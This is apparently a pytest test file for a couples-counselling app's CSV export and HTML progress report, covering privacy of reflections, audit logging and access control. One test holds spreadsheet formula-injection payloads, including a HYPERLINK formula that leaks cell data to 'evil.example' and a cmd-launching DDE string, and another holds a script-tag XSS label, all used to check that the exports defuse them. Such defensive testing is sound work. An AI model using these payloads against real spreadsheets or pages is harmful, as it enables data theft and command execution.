"""The counselor's exports on a real database: the check-in CSV and the printable report."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import uuid
from collections import Counter
from functools import partial
from html.parser import HTMLParser

import pytest
from plotly.offline import get_plotlyjs
from sqlalchemy import select

from tests.couple_parts import shown_checkins
from trustcare.errors import CoupleNotFound
from trustcare.models import AuditEvent, CheckIn, Partner
from trustcare.persistence.uow import PartnerWork, unscoped_work
from trustcare.scoring import score_answers
from trustcare.services import checkins, couples, export, links

BASE = "https://care.example"
# Keyed total 24 (reverse items hiding-things, held-back and checking-up flipped), overall 7.
STEADY = {
    "honest-talk": 3,
    "hiding-things": 1,
    "kept-word": 3,
    "there-for-me": 4,
    "safe-to-share": 2,
    "held-back": 2,
    "checking-up": 0,
    "feel-secure": 3,
    "overall-trust": 7,
    "practice-done": 2,
    "felt-unsafe": 0,
}
# Keyed total 10 (14 points down, past the provisional 6.2), overall 3, and a safety "yes".
WORSE = {
    "honest-talk": 1,
    "hiding-things": 3,
    "kept-word": 2,
    "there-for-me": 2,
    "safe-to-share": 1,
    "held-back": 3,
    "checking-up": 3,
    "feel-secure": 1,
    "overall-trust": 3,
    "practice-done": 0,
    "felt-unsafe": 1,
}
# Keyed total 25, overall 8: one point up, within measurement noise.
BETTER = {**STEADY, "honest-talk": 4, "overall-trust": 8}

SUBSCALE_TITLES = [
    "Honesty and openness",
    "Reliability and consistency",
    "Emotional safety and vulnerability",
    "Security (freedom from jealousy and insecurity)",
]
CSV_HEADERS = [
    "partner",
    "submitted (UTC)",
    "session",
    "trust pulse total",
    "overall trust",
    "practice",
    *SUBSCALE_TITLES,
    "safety answer",
    "reflection",
    "reflection shared",
    "answered in",
    "entered by",
]
LENAS_WORRY = "Sunday still hurts; I felt unheard when we talked about the café."
PRIVATE_NOTE = "Private: Marco mentioned the argument in the car."


class NoWait:
    """A throttle that never sleeps, so check-ins are quick to submit."""

    def delay_for(self, client, now=None):
        return 0.0

    def record_failure(self, client, now=None):
        pass


def unscoped(practice):
    """Opens an unscoped unit of work on the practice's database, as link entry points take."""
    return partial(unscoped_work, practice.factory)


class ReportParser(HTMLParser):
    """Start tags, visible text and table cells of a report, as a browser would read them."""

    def __init__(self, report: str) -> None:
        super().__init__()
        self.tags: Counter[str] = Counter()
        self.text: list[str] = []
        self.tables: list[list[list[str]]] = []
        self._raw = 0
        self._cell: list[str] | None = None
        self.feed(report)

    def handle_starttag(self, tag, attrs):
        self.tags[tag] += 1
        if tag in ("script", "style"):
            self._raw += 1
        elif tag == "table":
            self.tables.append([])
        elif tag == "tr":
            self.tables[-1].append([])
        elif tag in ("td", "th"):
            self._cell = []

    def handle_endtag(self, tag):
        if tag in ("script", "style"):
            self._raw -= 1
        elif tag in ("td", "th") and self._cell is not None:
            self.tables[-1][-1].append("".join(self._cell).strip())
            self._cell = None

    def handle_data(self, data):
        if self._raw:
            return
        self.text.append(data)
        if self._cell is not None:
            self._cell.append(data)


@pytest.fixture
def rivera(practice):
    """Ada's couple Rivera: its id and both partners' ids (Lena first)."""
    with practice.factory() as session:
        lena, marco = session.scalars(
            select(Partner.id)
            .where(Partner.couple_id == practice.admins_couple)
            .order_by(Partner.position)
        ).all()
    return practice.admins_couple, lena, marco


@pytest.fixture
def check_in(practice, catalog):
    """Submit a check-in the way a partner does: through their own link."""

    def submit(partner_id: int, answers: dict, reflection: str = "", share: bool = False) -> None:
        with practice.work(practice.admin) as uow:
            issued = links.issue_link(uow, practice.admins_couple, partner_id, BASE)
        token = issued.url.split("t=", 1)[1]
        partner = links.open_link(unscoped(practice), token, throttle=NoWait())
        with PartnerWork(practice.factory, partner) as uow:
            checkins.submit_checkin(
                uow, catalog, answers, reflection, share, None, uuid.uuid4().hex
            )

    return submit


@pytest.fixture
def history(rivera, check_in):
    """Lena falls from 24 to 10 and answers the safety question "yes"; Marco goes 24 to 25."""
    _, lena, marco = rivera
    check_in(lena, STEADY, "We managed one calm talk.", share=True)
    check_in(marco, STEADY)
    check_in(lena, WORSE, LENAS_WORRY)
    check_in(marco, BETTER)
    return rivera


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def export_csv(practice, catalog, couple_id: int, actor=None) -> bytes:
    with practice.work(actor or practice.admin) as uow:
        return export.checkins_csv(uow, catalog, couple_id)


def report_of(practice, catalog, couple_id: int, actor=None) -> str:
    with practice.work(actor or practice.admin) as uow:
        return export.progress_report_html(
            uow, catalog, couple_id, generated_at=dt.datetime(2026, 3, 2, 9, 30, tzinfo=dt.UTC)
        )


def export_actions(practice) -> list[tuple]:
    with practice.factory() as session:
        return session.execute(
            select(AuditEvent.action, AuditEvent.record_id, AuditEvent.actor_id, AuditEvent.detail)
            .where(AuditEvent.action.like("export.%"))
            .order_by(AuditEvent.id)
        ).all()


# --- CSV ----------------------------------------------------------------------------------------


def test_the_csv_has_a_byte_order_mark_human_headers_and_every_checkin_in_order(
    practice, catalog, history
):
    couple_id, _, _ = history
    with practice.work(practice.admin) as uow:
        couples.log_session(uow, couple_id, dt.date.today() - dt.timedelta(days=1), PRIVATE_NOTE)

    data = export_csv(practice, catalog, couple_id)

    assert data.startswith(b"\xef\xbb\xbf")
    rows = csv_rows(data)
    assert list(rows[0]) == CSV_HEADERS
    assert [r["partner"] for r in rows] == ["Lena", "Marco", "Lena", "Marco"]
    assert [r["trust pulse total"] for r in rows] == ["24", "24", "10", "25"]
    assert [r["overall trust"] for r in rows] == ["7", "7", "3", "8"]
    assert [r["practice"] for r in rows] == ["2", "2", "0", "2"]
    assert [r["session"] for r in rows] == ["1", "1", "1", "1"]
    assert [r["answered in"] for r in rows] == ["English"] * 4
    assert [r["entered by"] for r in rows] == ["partner"] * 4
    assert [rows[0][title] for title in SUBSCALE_TITLES] == ["3", "3.5", "2", "3.5"]
    with practice.factory() as session:
        stored = session.scalars(select(CheckIn.submitted_at).order_by(CheckIn.id)).all()
    assert [r["submitted (UTC)"] for r in rows] == [
        t.astimezone(dt.UTC).strftime("%Y-%m-%dT%H:%M:%SZ") for t in stored
    ]
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", r["submitted (UTC)"]) for r in rows)


def test_the_counselors_csv_includes_reflections_sharing_choices_and_safety_answers(
    practice, catalog, history
):
    rows = csv_rows(export_csv(practice, catalog, history[0]))

    assert [r["reflection"] for r in rows] == ["We managed one calm talk.", "", LENAS_WORRY, ""]
    assert [r["reflection shared"] for r in rows] == ["yes", "no", "no", "no"]
    assert [r["safety answer"] for r in rows] == ["no", "no", "yes", "no"]
    assert "café" in rows[2]["reflection"]


def test_an_unanswered_safety_question_reads_unanswered_never_no(practice, catalog, rivera):
    """A check-in stored without a safety answer (None) is "unanswered" in every reader."""
    from trustcare.services import progress

    couple_id, lena, _ = rivera
    measure = catalog.measure(checkins.MEASURE_ID)
    scores = score_answers(measure, STEADY)
    with practice.factory() as session:
        session.add(
            CheckIn(
                couple_id=couple_id,
                partner_id=lena,
                submitted_at=dt.datetime(2026, 1, 5, 19, 30, tzinfo=dt.UTC),
                measure_id=measure.id,
                measure_version=measure.version,
                answers=STEADY,
                subscales=dict(scores.subscales),
                total=scores.total,
                overall=scores.overall,
                practice=scores.practice,
                reflection="",
                reflection_shared=False,
                safety_flag=None,
                idempotency_key="no-safety-answer",
            )
        )
        session.commit()

    rows = csv_rows(export_csv(practice, catalog, couple_id))
    with practice.work(practice.admin) as uow:
        frame = progress.couple_progress(uow, catalog, couple_id).checkins
        view = shown_checkins(uow, couple_id).checkins

    assert [r["safety answer"] for r in rows] == ["unanswered"]
    assert list(frame["safety_flag"]) == [None]
    assert [c.safety_flag for c in view] == [None]


def test_text_a_spreadsheet_would_run_as_a_formula_gets_a_leading_apostrophe(
    practice, catalog, rivera, check_in
):
    couple_id, lena, marco = rivera
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Open your results")'
    with practice.work(practice.admin) as uow:
        couples.update_couple(
            uow,
            couple_id,
            "Rivera",
            [couples.PartnerInput(hyperlink), couples.PartnerInput("Marco")],
        )
    dangerous = [hyperlink, "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\tindented", "\rreturn"]
    for text in dangerous:
        check_in(lena, STEADY, text)
    check_in(marco, STEADY, "Plain words - with a dash = and an @ inside.")

    rows = csv_rows(export_csv(practice, catalog, couple_id))

    assert [r["reflection"] for r in rows] == [
        *("'" + text for text in dangerous),
        "Plain words - with a dash = and an @ inside.",
    ]
    assert [r["partner"] for r in rows] == ["'" + hyperlink] * len(dangerous) + ["Marco"]
    assert {r["trust pulse total"] for r in rows} == {"24"}


def test_every_naughty_string_comes_back_exactly_in_the_csv_apart_from_formula_apostrophes(
    practice, catalog, rivera, blns
):
    couple_id, lena, _ = rivera
    measure = catalog.measure("trust-pulse")
    scores = score_answers(measure, STEADY)
    start = dt.datetime(2026, 1, 5, 19, 30, tzinfo=dt.UTC)
    with practice.factory() as session:
        session.add_all(
            CheckIn(
                couple_id=couple_id,
                partner_id=lena,
                submitted_at=start + dt.timedelta(minutes=index),
                measure_id=measure.id,
                measure_version=measure.version,
                answers=STEADY,
                subscales=dict(scores.subscales),
                total=scores.total,
                overall=scores.overall,
                practice=scores.practice,
                reflection=text,
                reflection_shared=False,
                safety_flag=False,
                idempotency_key=f"blns-{index}",
            )
            for index, text in enumerate(blns)
        )
        session.commit()

    rows = csv_rows(export_csv(practice, catalog, couple_id))

    assert [r["reflection"] for r in rows] == [export.defuse_formula(text) for text in blns]


# --- report -------------------------------------------------------------------------------------


def test_the_report_shows_the_couple_partners_period_caveat_and_a_summary_per_partner(
    practice, catalog, history
):
    report = report_of(practice, catalog, history[0])
    page = ReportParser(report)
    text = " ".join("".join(page.text).split())

    assert "<title>Progress report: Rivera</title>" in report
    assert "Progress report Rivera: Lena and Marco" in text
    today = dt.datetime.now(dt.UTC)
    assert f"Check-ins from {today.day} {today:%b %Y} to {today.day} {today:%b %Y} (UTC)" in text
    assert "Prepared by Ada Fictional, 2 Mar 2026 09:30 UTC" in text
    assert "It is not a validated instrument" in text
    assert "provisional constants (SD 5.0, reliability 0.80)" in text
    assert "a change of more than 6.2 points on the total counts as reliable" in text
    summary = page.tables[0]
    assert summary[1:] == [
        ["Lena", "2", "24", "10", "−14", "7", "3", "−4", "Reliable deterioration", "not asked yet"],
        ["Marco", "2", "24", "25", "+1", "7", "8", "+1", "No reliable change", "not asked yet"],
    ]


def test_the_report_leaves_out_reflections_safety_answers_and_session_notes(
    practice, catalog, history
):
    couple_id, _, _ = history
    with practice.work(practice.admin) as uow:
        couples.log_session(uow, couple_id, dt.date.today() - dt.timedelta(days=1), PRIVATE_NOTE)

    report = report_of(practice, catalog, couple_id)

    for private in (LENAS_WORRY, "We managed one calm talk.", PRIVATE_NOTE, "(see record)"):
        assert private not in report
    checkin_table = ReportParser(report).tables[-1]
    assert checkin_table[0] == [
        "Partner",
        "Submitted (UTC)",
        "Session",
        "Total",
        "Overall trust",
        "Practice (0–3)",
        *SUBSCALE_TITLES,
        "Entered by",
    ]
    assert [(row[0], row[2], row[3], row[-1]) for row in checkin_table[1:]] == [
        ("Lena", "1", "24", "partner"),
        ("Marco", "1", "24", "partner"),
        ("Lena", "1", "10", "partner"),
        ("Marco", "1", "25", "partner"),
    ]
    assert {len(row) for row in checkin_table} == {11}


def test_the_report_works_offline_with_plotly_inlined_once_and_prints_a_chart_per_page(
    practice, catalog, history
):
    report = report_of(practice, catalog, history[0])

    assert report.count(get_plotlyjs()[100_000:100_400]) == 1
    assert report.count("Plotly.newPlot(") == 4
    assert re.search(r"<(script|link|img|iframe)\b[^>]*\b(src|href)=", report) is None
    assert report.count('<section class="chart-section">') == 5
    css = report[report.index("<style>") : report.index("</style>")]
    assert "@media print" in css and "break-before: page" in css and "@page" in css
    for title in (
        "Trust-pulse total by session",
        "Trust-pulse total by date",
        "Subscales by session",
        "Gap between the partners by session",
    ):
        assert f"<h2>{title}</h2>" in report


@pytest.mark.parametrize(
    "label",
    ["<script>alert(1)</script>", 'Tom & Jerry\'s "quoted" <b>home</b>'],
)
def test_names_and_labels_in_the_report_are_shown_as_text_never_as_markup(
    practice, catalog, history, blns, label
):
    couple_id, _, _ = history
    plain = ReportParser(report_of(practice, catalog, couple_id))
    markup = [s for s in blns if "<" in s and s == s.strip() and len(s) <= 80 and s.isprintable()]
    names = [markup[5], markup[6]] if label.startswith("<script") else [markup[0], markup[1]]
    with practice.work(practice.admin) as uow:
        couples.update_couple(uow, couple_id, label, [couples.PartnerInput(name) for name in names])

    report = report_of(practice, catalog, couple_id)

    assert "<script>alert(1)</script>" not in report
    naughty = ReportParser(report)
    assert naughty.tags == plain.tags
    text = "".join(naughty.text)
    assert label in text and all(name in text for name in names)
    assert f"<title>Progress report: {label}</title>" not in report


# --- both ---------------------------------------------------------------------------------------


def test_each_export_is_written_to_the_audit_trail_without_clinical_text(
    practice, catalog, history
):
    couple_id, _, _ = history

    export_csv(practice, catalog, couple_id)
    report_of(practice, catalog, couple_id)

    events = export_actions(practice)
    assert [(a, r, who) for a, r, who, _ in events] == [
        ("export.checkins_csv", couple_id, practice.admin.counselor_id),
        ("export.progress_report", couple_id, practice.admin.counselor_id),
    ]
    assert LENAS_WORRY not in repr(events)


def test_a_counselor_cannot_export_another_counselors_couple(practice, catalog, history):
    couple_id, _, _ = history

    with pytest.raises(CoupleNotFound):
        export_csv(practice, catalog, couple_id, actor=practice.counselor)
    with pytest.raises(CoupleNotFound):
        report_of(practice, catalog, couple_id, actor=practice.counselor)
    with pytest.raises(CoupleNotFound):
        export_csv(practice, catalog, practice.counselors_couple, actor=practice.admin)

    assert export_actions(practice) == []


def test_a_couple_without_checkins_exports_only_headers_and_a_report_that_says_so(
    practice, catalog
):
    ben, okafor = practice.counselor, practice.counselors_couple

    data = export_csv(practice, catalog, okafor, actor=ben)
    report = report_of(practice, catalog, okafor, actor=ben)

    assert data.decode("utf-8-sig") == ",".join(CSV_HEADERS) + "\r\n"
    text = " ".join("".join(ReportParser(report).text).split())
    assert "Okafor: Chidi and Tess" in text
    assert "No check-ins yet." in text
    assert "No scored check-ins yet" in text
